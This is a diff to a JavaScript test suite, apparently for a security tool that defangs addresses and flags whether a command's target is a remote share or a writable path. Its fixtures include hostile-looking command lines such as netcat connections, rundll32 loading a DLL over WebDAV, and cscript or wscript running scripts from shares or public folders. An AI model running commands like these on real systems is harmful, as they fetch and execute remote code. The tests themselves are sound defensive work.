@@ -222,6 +222,7 @@ describe('addresses', () => {
     ],
     ['ping evil.example.com, srv.corp.net:8443', ['evil[.]example[.]com', 'srv[.]corp[.]net']],
     ['\\\\192.0.2.4\\share\\a.dll', ['\\\\192[.]0[.]2[.]4\\share\\a[.]dll']],
+    ['cscript //B //T:10 //srv/share/a.js', ['//srv/share/a[.]js']],
     ['x [2001:db8::1] 2001:db8::2 ::1', ['2001[:]db8[:][:]1', '2001[:]db8[:][:]2']],
     ['https://[2001:db8::1]:8443/a', ['hxxps://[2001:db8::1]:8443/a']],
     ['nc 192.0.2.9 443 1.2.3 1.2.3.4.5 999.1.1.1', ['192[.]0[.]2[.]9']],
@@ -245,6 +246,8 @@ describe('facts of the command', () => {
     ['\\\\evil\\share\\x.exe', '\\\\evil\\share\\x.exe', 'remote'],
     ['rundll32 \\\\evil@SSL\\dav\\x.dll,A', null, 'remote'],
     ['\\\\?\\C:\\x.exe', null, 'remote'],
+    ['//evil/share/x.exe', null, 'remote'],
+    ['wscript //B //E:jscript "C:\\Users\\Public\\a.txt" //Nologo', null, 'writable'],
     ['C:\\a.exe --url https://evil.example/a', 'C:\\a.exe', ''],
     ['%TEMP%\\a.exe', null, 'writable'],
   ];
